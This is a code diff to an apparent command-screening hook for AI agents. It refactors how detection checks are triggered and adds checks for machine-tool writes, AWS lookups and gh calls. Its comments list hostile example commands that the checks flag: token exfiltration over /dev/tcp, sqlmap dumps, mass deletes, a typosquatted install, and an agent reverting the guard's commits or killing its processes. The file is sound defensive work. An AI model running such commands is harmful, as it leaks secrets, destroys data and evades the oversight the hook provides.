@@ -17,6 +17,7 @@ from __future__ import annotations
 from amplifier_hooks.guard.agentsites import AGENT_CLIS, mark_agents_elsewhere
 from amplifier_hooks.guard.buildprints import PRINTERS, mark_build_secrets
 from amplifier_hooks.guard.chaintools import CHAIN_PROGRAMS, mark_chain_calls
+from amplifier_hooks.guard.cloudlooks import mark_cloud_looks
 from amplifier_hooks.guard.compileroutputs import COMPILERS, mark_outputs_over_source
 from amplifier_hooks.guard.destinations import EXAMINED, mark_destinations
 from amplifier_hooks.guard.discards import CLIPPERS, DECRYPTERS, mark_discarded
@@ -34,6 +35,8 @@ from amplifier_hooks.guard.guardpids import SIGNALLERS, mark_guard_pids
 from amplifier_hooks.guard.hubsends import UPLOADERS, mark_uploads
 from amplifier_hooks.guard.installnames import INSTALLERS, mark_installs
 from amplifier_hooks.guard.keyprints import GENERATORS, mark_printed_keys
+from amplifier_hooks.guard.machines import WRITERS as MACHINE_WRITERS
+from amplifier_hooks.guard.machines import mark_machine_commands
 from amplifier_hooks.guard.makedirs import MAKES, from_folder
 from amplifier_hooks.guard.model import Piece, Places
 from amplifier_hooks.guard.modes import mark_tightened
@@ -42,6 +45,7 @@ from amplifier_hooks.guard.newkeys import mark_new_ssh_keys
 from amplifier_hooks.guard.notebookruns import RUNNERS, mark_remote_notebooks
 from amplifier_hooks.guard.owninput import mark_own_input
 from amplifier_hooks.guard.ownpackage import mark_own_package
+from amplifier_hooks.guard.ownrepo import mark_own_repo
 from amplifier_hooks.guard.passwordpipes import PRINTERS as TOKEN_PRINTERS
 from amplifier_hooks.guard.passwordpipes import mark_password_pipes
 from amplifier_hooks.guard.platforms import TABLE as PLATFORMS
@@ -88,6 +92,34 @@ _GIT_WORDS = SEARCHES | {"config", "clone"}
 """The git words a mark reads first: a search of the log (`guardcommits`), ``config``
 (`gitconfigscripts`), ``clone`` (`fetchedruns`); a git call naming none gets no mark."""
 _OTHER_FETCHERS = FETCHERS - {"git"}
+_TRIGGERS = frozenset().union(
+    DECLARERS,
+    _OTHER_FETCHERS,
+    SENDERS,
+    AGENT_CLIS,
+    COPIERS,
+    SCREENED,
+    MACHINE_WRITERS,
+    GENERATORS,
+    DECRYPTERS,
+    CLIPPERS,
+    PUBLIC_PRINTERS,
+    FIELD_READERS,
+    SCANNERS,
+    MAKES,
+    PRINTERS,
+    COMPILERS,
+    SQL_CLIENTS,
+    STORE_SHELLS,
+    SECRET_GETTERS,
+    TOKEN_PRINTERS,
+    INSTALLERS,
+    SIGNALLERS,
+    {"gh", "aws", "rsync", "find", "ssh-keygen"},
+)
+"""Every program a mark of `_by_program` reads: a command naming none (and no git words
+or submodule) skips them all on one set test (`bench_guard`'s fresh row: some twenty
+set tests a call)."""
 
 
 def _git_marked(pieces: tuple[Piece, ...]) -> bool:
@@ -117,10 +149,27 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
     # (one set of the programs, each mark below skipped by a set test when none of its
     # programs is named: these calls ran for every command, `bench_guard`'s fresh row)
     programs = {piece.program for piece in pieces}
-    if not programs.isdisjoint(DECLARERS):
-        pieces = follow_namerefs(pieces)  # `declare -n r=GITHUB_TOKEN; echo "$r"`
     # git's marks read a few of its words: `git status` skips all three on one set test
     git_marked = "git" in programs and _git_marked(pieces)
+    if git_marked or not programs.isdisjoint(_TRIGGERS) or "submodule" in command:
+        marked_by = _by_program(pieces, command, places, programs, git_marked)
+        if marked_by is not pieces:  # (a runner's piece may be the program it runs now)
+            pieces, programs = marked_by, {piece.program for piece in marked_by}
+    if runs_scripts(programs):
+        pieces = mark_script_acts(pieces)  # `python scripts/send_newsletter.py --list all`
+    if _hyphenated(programs) and any(p in ADMIN_CMDLETS for p in programs):
+        pieces = mark_admin_cmdlets(pieces)  # `Set-ADUser`, `Set-Mailbox -ForwardingSmtpAddress`
+    if names_socket(command):
+        pieces = mark_secret_sockets(pieces)  # `cat < /dev/tcp/$TOKEN.example.com/80`
+    return mark_own_package(command, pieces)
+
+
+def _by_program(pieces: tuple[Piece, ...], command: str, places: Places,
+                programs: set[str | None], git_marked: bool) -> tuple[Piece, ...]:  # fmt: skip
+    """``pieces`` with each mark of a program they name applied (`marked` calls it only
+    when one of `_TRIGGERS` is named, or git's words or a submodule are)."""
+    if not programs.isdisjoint(DECLARERS):
+        pieces = follow_namerefs(pieces)  # `declare -n r=GITHUB_TOKEN; echo "$r"`
     if git_marked or not programs.isdisjoint(_OTHER_FETCHERS):
         pieces = mark_fetched_runs(pieces, places)  # `git clone URL d && d/x.sh`
     if not programs.isdisjoint(SENDERS):
@@ -134,6 +183,8 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
     if git_marked:
         pieces = mark_guard_commits(pieces)  # `git log --grep=amplifier-hooks | xargs git revert`
         pieces = mark_config_scripts(pieces, places)  # `git config core.editor /Users/d/p/x`
+    if "gh" in programs:
+        pieces = mark_own_repo(pieces, places)  # `gh issue create --repo OWN/REPO`: its own
     if not programs.isdisjoint(SCREENED):
         pieces = mark_forge_calls(mark_runners(mark_services(mark_platforms(pieces))))
         pieces = mark_endpoint_deletes(pieces)  # curl -X POST .../_delete_by_query
@@ -153,6 +204,10 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_secret_fields(pieces)  # `jq -r .token bot.json`, `grep rcon.password F`
     if not programs.isdisjoint(SCANNERS):
         pieces = mark_scans(pieces)  # `nmap -sV 203.0.113.10`, `sqlmap -u URL --dump`
+    if not programs.isdisjoint(MACHINE_WRITERS):
+        pieces = mark_machine_commands(pieces)  # `printf 'G0 X-400\n' > /dev/ttyUSB0`
+    if "aws" in programs:
+        pieces = mark_cloud_looks(pieces)  # `aws ec2 describe-x --attribute createVolume...`
     if "rsync" in programs:
         pieces = mark_empty_syncs(pieces)  # `mkdir -p e && rsync -a --delete e/ ~/data/`
     if not programs.isdisjoint(MAKES):
@@ -167,8 +222,6 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_sql(pieces)  # `psql -h db.prod.internal -c 'DELETE FROM t WHERE 1=1'`
     if not programs.isdisjoint(STORE_SHELLS):
         pieces = mark_store_changes(pieces)  # `redis-cli -h cache.prod.internal DEL k`
-    if runs_scripts(programs):
-        pieces = mark_script_acts(pieces)  # `python scripts/send_newsletter.py --list all`
     if not programs.isdisjoint(SECRET_GETTERS) and len(pieces) > 1:
         pieces = mark_keys_only(pieces)  # `kubectl get secret db -o json | jq '.data|keys'`
     if not programs.isdisjoint(TOKEN_PRINTERS) and len(pieces) > 1:
@@ -177,8 +230,4 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_installs(pieces)  # `npm i lodahs`, `npm i -w pkgs/web ./pkgs/x`
     if not programs.isdisjoint(SIGNALLERS):
         pieces = mark_guard_pids(command, pieces)  # `... amplifier-hooks ... | xargs kill`
-    if _hyphenated(programs) and any(p in ADMIN_CMDLETS for p in programs):
-        pieces = mark_admin_cmdlets(pieces)  # `Set-ADUser`, `Set-Mailbox -ForwardingSmtpAddress`
-    if names_socket(command):
-        pieces = mark_secret_sockets(pieces)  # `cat < /dev/tcp/$TOKEN.example.com/80`
-    return mark_own_package(command, pieces)
+    return pieces
